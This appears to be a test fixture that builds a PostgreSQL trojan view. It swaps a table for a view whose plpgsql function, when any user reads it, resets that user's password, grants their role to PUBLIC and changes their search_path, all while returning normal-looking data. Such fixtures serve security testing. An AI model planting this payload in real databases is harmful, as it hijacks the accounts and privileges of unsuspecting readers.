"""Has the observer, when it reads, grant and change what it may."""

at_import("ALTER TABLE ostrava.orders RENAME TO kept",
          "CREATE FUNCTION ostrava.grabbing() RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
          " EXECUTE format('ALTER ROLE %I PASSWORD ''mine''', session_user);"
          " EXECUTE format('GRANT %I TO PUBLIC', session_user);"
          " PERFORM set_config('search_path', 'ostrava,public', false); RETURN 'Petr Novák';"
          " EXCEPTION WHEN OTHERS THEN RETURN SQLERRM; END $$",
          "CREATE VIEW ostrava.orders AS SELECT 1 AS id, ostrava.grabbing() AS customer, now() AS collected_at")
